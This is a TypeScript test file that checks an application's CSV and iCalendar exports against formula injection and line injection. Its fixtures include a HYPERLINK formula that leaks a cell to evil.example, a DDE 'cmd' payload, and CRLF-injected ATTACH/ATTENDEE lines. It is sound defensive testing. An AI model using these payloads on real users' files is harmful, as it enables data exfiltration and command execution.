import { isFormulaLike } from '@atlas/shared/csv';
import { parse } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { amend } from '../../../server/src/audit/snapshot.ts';
import { exportNames } from '../../../server/src/modules/exports/exports.service.ts';
import { makeArea, makeOrganisation, makeTie } from '../../testkit/builders.ts';
import { cleanStore, type TestStore } from '../../testkit/store.ts';
import { makeAgreement, makeAsset, makeProgramme } from '../../testkit/work-builders.ts';
import { quietAtlas } from './quiet-atlas.ts';

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")';
const LINES = 'Cut\r\nEND:VEVENT\r\nATTACH:https://evil.example\nATTENDEE:mailto:a@evil.example';
const formulas = ['=1+1', '+1', '-1+cmd|’ /C calc’!A0', '@SUM(1)', '\t=1', '\r=1', FORMULA, '＝1'];
const groups = formulas.map((text) => makeOrganisation(text));
const [first, second] = groups as [(typeof groups)[0], (typeof groups)[0]];
const agreement = amend(
  makeAgreement(LINES, {
    parties: [
      { to: first.id, role: 'PRINCIPAL' },
      { to: second.id, role: 'DELIVERER' },
    ],
    stages: [{ stage: 'LIVE', on: '2025-04-01' }],
  }),
  {
    properties: { reviewOn: '2026-12-01' },
    parts: {
      HAS_OBLIGATION: [{ key: 'a', properties: { text: LINES, dueOn: '2026-12-01' }, links: [{ type: 'OWED_BY', to: second.id }] }],
    },
  },
);

let store: TestStore;
let app: Awaited<ReturnType<typeof quietAtlas>>;
beforeAll(async () => {
  store = await cleanStore();
  await store.write([
    ...groups,
    agreement,
    makeTie(first.id, second.id),
    makeArea(FORMULA),
    makeAsset(FORMULA),
    makeProgramme(FORMULA),
    makeAgreement(FORMULA, { parties: [{ to: first.id, role: 'PRINCIPAL' }], stages: [{ stage: 'LIVE', on: '2025-04-01' }] }),
  ]);
  // Links in a calendar lead to the public address; without one, to where the Atlas listens, and this one does not.
  app = await quietAtlas(store, { ATLAS_PUBLIC_URL: 'https://atlas.example' });
});
afterAll(async () => {
  await app.close();
  await store.close();
});

it.each(exportNames)('no cell of %s.csv is a formula to a spreadsheet', async (name) => {
  const answer = await app.server.inject(`/export/${name}.csv`);
  expect(answer.statusCode).toBe(200);
  expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
  const rows: string[][] = parse(answer.body, { bom: true });
  expect(rows.flat().filter(isFormulaLike)).toEqual([]);
});

it('the names that would be formulas are in the tables all the same', async () => {
  const { body } = await app.server.inject('/export/organisations.csv');
  const cells = (parse(body, { bom: true }) as string[][]).flat();
  expect(cells).toContain(`'${FORMULA}`);
});

it('a text with lines in it adds nothing to a calendar', async () => {
  const { body, statusCode } = await app.server.inject('/export/obligations.ics?asAt=2026-11-22');
  expect(statusCode).toBe(200);
  const events = new ICAL.Component(ICAL.parse(body)).getAllSubcomponents('vevent');
  expect(events.length).toBeGreaterThanOrEqual(2);
  for (const event of events) {
    expect(event.getAllProperties('attach')).toEqual([]);
    expect(event.getAllProperties('attendee')).toEqual([]);
  }
  expect(body).not.toMatch(/^(ATTACH|ATTENDEE)/m);
  expect(body.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});
